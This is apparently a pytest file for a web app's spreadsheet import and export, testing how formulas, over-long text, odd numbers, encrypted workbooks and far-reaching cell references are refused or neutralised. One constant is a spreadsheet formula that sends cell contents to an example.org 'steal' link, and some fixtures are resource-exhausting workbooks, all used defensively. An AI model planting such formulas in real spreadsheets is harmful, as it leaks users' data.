"""Spreadsheets that would break the import or the export, and what a user is told instead:
formulas and long links kept as text, text longer than a cell refused rather than cut,
comments holding the separator, numbers and moments no database holds, encrypted or
far-reaching workbooks, codes longer than a plan keeps. Never a 500, nothing half-saved.

Built with the factories: `held` is a partnership with a row on every sheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
import xlsxwriter
from openpyxl import load_workbook

from analytics import periods
from assure.meetings.models import Meeting, TrackerAction
from assure.plans import services as plan_services
from assure.plans.models import Action
from assure.risks.models import Risk, RiskReview
from tests.transfer.factories import PERFORMANCE
from tests.transfer.test_partnership_tables import confirm, main_text, upload, workbook
from tests.transfer.test_plan_import import upload as upload_plan_table
from tests.transfer.test_plan_import import xlsx

FORMULA = '=HYPERLINK("https://example.org/steal?x="&A1,"Click")'
LONG_LINK = "https://example.org/" + "a" * 2100


def exported(client, home: str) -> object:
    return load_workbook(io.BytesIO(client.get(f"{home}export.xlsx").content))


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def change_cell(book, sheet: str, heading: str, value: object, row: int = 2) -> None:
    headings = [c.value for c in book[sheet][1]]
    book[sheet].cell(row=row, column=headings.index(heading) + 1).value = value


def measure(manager, action: Action, text: str) -> None:
    fields = {
        name: getattr(action, name)
        for name in ("code", "title", "timescale", "impact_measure", "due_date")
    }
    fields |= {
        "owner_person": action.owner_person,
        "owner_group": action.owner_group,
        "owner_organisation": action.owner_organisation,
        "outcome_measure": text,
    }
    plan_services.save_action(manager, action.objective, action, **fields)


def test_a_formula_and_a_long_link_are_taken_out_as_text(signed_in_as, people, held, home):
    action, other = held.actions[:2]
    measure(people("manager").user, action, FORMULA)
    measure(people("manager").user, other, LONG_LINK)
    manager = signed_in_as("manager")
    book = exported(manager, home)
    cells = [c for row in book["Actions"].iter_rows() for c in row]
    kept = {c.value: c.data_type for c in cells if c.value in {FORMULA, LONG_LINK}}
    assert kept == {FORMULA: "s", LONG_LINK: "s"}  # text, not a formula; the link whole
    plan = load_workbook(
        io.BytesIO(manager.get(f"{home}plans/{action.plan.pk}/table.xlsx").content)
    )
    assert FORMULA in [c.value for row in plan["Plan"].iter_rows() for c in row]
    archive = zipfile.ZipFile(io.BytesIO(manager.get(f"{home}export.zip").content))
    rows = list(csv.reader(io.StringIO(archive.read("Actions.csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells  # Excel shows it, never runs it


def test_a_csv_formula_guard_is_taken_away_when_the_table_comes_back():
    from assure.core.spreadsheets import csv_cell, csv_text

    for text in (FORMULA, "+44 1803 201201", "@sum(1)", "-ish"):
        assert csv_cell(text) == "'" + text and csv_text(csv_cell(text)) == text
    for number in ("-12", "+3.5", "-1,200", "81.5%"):
        assert csv_cell(number) == number
    assert csv_text("'quoted") == "'quoted"  # an apostrophe of one's own stays


def test_text_longer_than_an_excel_cell_is_refused_not_cut(signed_in_as, people, held, home):
    action = held.actions[0]
    measure(people("manager").user, action, "x" * 40_000)
    manager = signed_in_as("manager")
    answer = manager.get(f"{home}export.xlsx", follow=True)
    page = answer.content.decode()
    assert answer.redirect_chain and "40,000 characters, more than the 32,767" in page
    assert "take it out as CSV files instead" in page
    plan = manager.get(f"{home}plans/{action.plan.pk}/table.xlsx", follow=True)
    assert "40,000 characters" in plan.content.decode()
    archive = zipfile.ZipFile(io.BytesIO(manager.get(f"{home}export.zip").content))
    assert "x" * 40_000 in archive.read("Actions.csv").decode("utf-8-sig")


def tracker_row(meeting: Meeting, comments: str) -> bytes:
    headings = ["Group", "Meeting", "Minute", "Action", "Owner", "Due", "Status", "Comments"]
    row = [meeting.group.name, meeting.held_on.isoformat(), "9", "Write to schools"]
    return workbook({"Tracker": [headings, row + ["", "", "Open", comments]]})


def test_a_comment_holding_the_separator_or_lines_comes_back_unchanged(signed_in_as, held, home):
    manager = signed_in_as("manager")
    meeting = held.meeting
    content = tracker_row(meeting, "2021-08-01: Agreed: A \\| B\nthen C | 2021-08-20: Sent")
    assert upload(manager, home, content).status_code == 200
    assert confirm(manager, home).status_code == 302
    row = TrackerAction.objects.get(meeting=meeting, text="Write to schools")
    assert [c.text for c in row.comments.order_by("written_on")] == [
        "Agreed: A | B\nthen C",
        "Sent",
    ]
    again = upload(manager, home, content).content.decode()
    assert "importing it changes nothing" in again, main_text(again)
    back = upload(manager, home, saved(exported(manager, home))).content.decode()
    assert "importing it changes nothing" in back, main_text(back)
    assert row.comments.count() == 2


def test_a_new_risk_gets_its_first_review_unless_the_reviews_sheet_names_it(
    signed_in_as, held, home
):
    manager = signed_in_as("manager")
    reviewed = held.risk
    reviews_before = RiskReview.objects.filter(risk=reviewed).count()
    risk_headings = ["Reference", "Risk or issue", "Description", "Date raised"]
    risk_headings += ["Owner group", "Probability", "Impact", "Status"]
    reviews = [["Risk", "Reviewed on", "Probability", "Impact", "Note"]]
    content = workbook(
        {
            "Risks": [
                risk_headings,
                ["R97", "Risk", "If a then b", "2021-06-01", PERFORMANCE, 2, 3, "Open"],
            ],
            "Risk reviews": reviews + [[reviewed.reference, "2021-06-02", 2, 2, "Reviewed"]],
        }
    )
    preview = upload(manager, home, content)
    assert preview.status_code == 200, main_text(preview.content.decode())
    assert confirm(manager, home).status_code == 302
    new = Risk.objects.get(partnership=reviewed.partnership, reference="R97")
    assert RiskReview.objects.filter(risk=new).count() == 1  # its first, from the import
    assert RiskReview.objects.filter(risk=reviewed).count() == reviews_before + 1


def test_a_code_longer_than_a_plan_keeps_is_named_not_a_500(signed_in_as, held, home):
    manager = signed_in_as("manager")
    plan = held.plan
    table = xlsx(
        [
            ["Theme code", "Theme", "Action code", "Action", "Owner"],
            ["P123456789AB", "Neglect", "P1.1", "Audit neglect", "Performance Sub-Group"],
            ["P1", "Neglect", "P1.1234567890AB", "Audit neglect", "Performance Sub-Group"],
        ]
    )
    answer = upload_plan_table(manager, plan, table)
    page = answer.content.decode()
    assert answer.status_code == 400, main_text(page)
    assert "At most 10 characters: this has 12" in page
    assert "At most 12 characters: this has 15" in page
    headings = ["Plan", "Theme code", "Theme", "Action code", "Action", "Owner"]
    row = [plan.title, "P123456789AB", "Neglect", "P1.1", "Audit", "Performance Sub-Group"]
    answer = upload(manager, home, workbook({"Actions": [headings, row]}))
    assert answer.status_code == 400 and "At most 10 characters" in answer.content.decode()


@pytest.mark.parametrize("number", ["NaN", "sNaN", "Infinity", "1E+999999999"])
def test_a_number_no_database_keeps_is_a_problem_of_its_cell(signed_in_as, held, home, number):
    manager = signed_in_as("manager")
    book = exported(manager, home)
    change_cell(book, "Targets", "Min", number)
    answer = upload(manager, home, saved(book))
    assert answer.status_code == 400
    assert f"“{number}” is not a number Assure keeps" in answer.content.decode()


def test_a_moment_off_the_calendar_is_a_problem_and_any_offset_is_kept_as_utc(
    signed_in_as, held, home
):
    assert periods.parse_moment("2021-07-01T09:30+20:00") == dt.datetime(
        2021, 6, 30, 13, 30, tzinfo=dt.UTC
    )
    assert periods.parse_moment("2021-07-01T09:30") == dt.datetime(2021, 7, 1, 9, 30, tzinfo=dt.UTC)
    with pytest.raises(ValueError, match="is not a date and time"):
        periods.parse_moment("0001-01-01T00:00+05:00")
    manager = signed_in_as("manager")
    book = exported(manager, home)
    change_cell(book, "Updates", "Submitted at", "0001-01-01T00:00+05:00")
    answer = upload(manager, home, saved(book))
    assert answer.status_code == 400
    assert "is not a date and time" in answer.content.decode()


def test_an_empty_theme_is_a_problem_of_its_cell(signed_in_as, held, home):
    manager = signed_in_as("manager")
    book = exported(manager, home)
    change_cell(book, "Indicators", "Theme", ";")
    answer = upload(manager, home, saved(book))
    assert answer.status_code == 400
    assert "Name the theme" in answer.content.decode()


def encrypted(content: bytes) -> bytes:
    """The workbook with every part marked encrypted, as a password-protected zip is."""
    data = bytearray(content)
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + flags] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def test_an_encrypted_workbook_is_said_to_be_unreadable(signed_in_as, held, home):
    manager = signed_in_as("manager")
    content = encrypted(workbook({"Agencies": [["Name", "Kind"], ["New Trust", "Education"]]}))
    answer = upload(manager, home, content)
    assert answer.status_code == 400
    assert "cannot be opened" in answer.content.decode()
    plan = held.plan
    answer = upload_plan_table(manager, plan, content)
    assert answer.status_code == 400 and "cannot be opened" in answer.content.decode()


def far_cell(sheet: str) -> bytes:
    """A small workbook with one cell at row 200,001, column 501: 100 million cells read."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    page = book.add_worksheet(sheet)
    page.write_row(0, 0, ["Name", "Kind"])
    page.write(200_000, 500, "x")
    book.close()
    return out.getvalue()


def with_first_cell_at(content: bytes, reference: bytes) -> bytes:
    """The workbook with its first cell's reference, A1, written as `reference`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as copy:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(b'<c r="A1"', b'<c r="' + reference + b'"')
            copy.writestr(item, data)
    return out.getvalue()


def test_a_far_cell_is_found_behind_a_reference_with_leading_zeros(signed_in_as, home):
    """A0000000001: the longest reference in the sheet, though the smallest row."""
    content = with_first_cell_at(far_cell("Agencies"), b"A0000000001")
    answer = upload(signed_in_as("manager"), home, content)
    page = answer.content.decode()
    assert answer.status_code == 400
    assert "The sheet Agencies has a cell at row 200,001, column 501" in page, main_text(page)


def test_a_workbook_reaching_far_past_its_table_is_refused_before_it_is_read(
    signed_in_as, held, home
):
    manager = signed_in_as("manager")
    answer = upload(manager, home, far_cell("Agencies"))
    page = answer.content.decode()
    assert answer.status_code == 400
    assert "The sheet Agencies has a cell at row 200,001, column 501" in page, main_text(page)
    plan = held.plan
    answer = upload_plan_table(manager, plan, far_cell("Plan"))
    assert answer.status_code == 400 and "The sheet Plan has a cell" in answer.content.decode()


def test_a_cell_at_a_row_of_thousands_of_digits_is_refused_not_a_500(signed_in_as, home):
    """Python reads no number of more than 4,300 digits: such a row once raised an error."""
    content = with_first_cell_at(far_cell("Agencies"), b"A" + b"9" * 5000)
    answer = upload(signed_in_as("manager"), home, content)
    page = answer.content.decode()
    assert answer.status_code == 400
    assert "The sheet Agencies has a cell at a row past 999,999,999,999,999,999" in page, main_text(
        page
    )
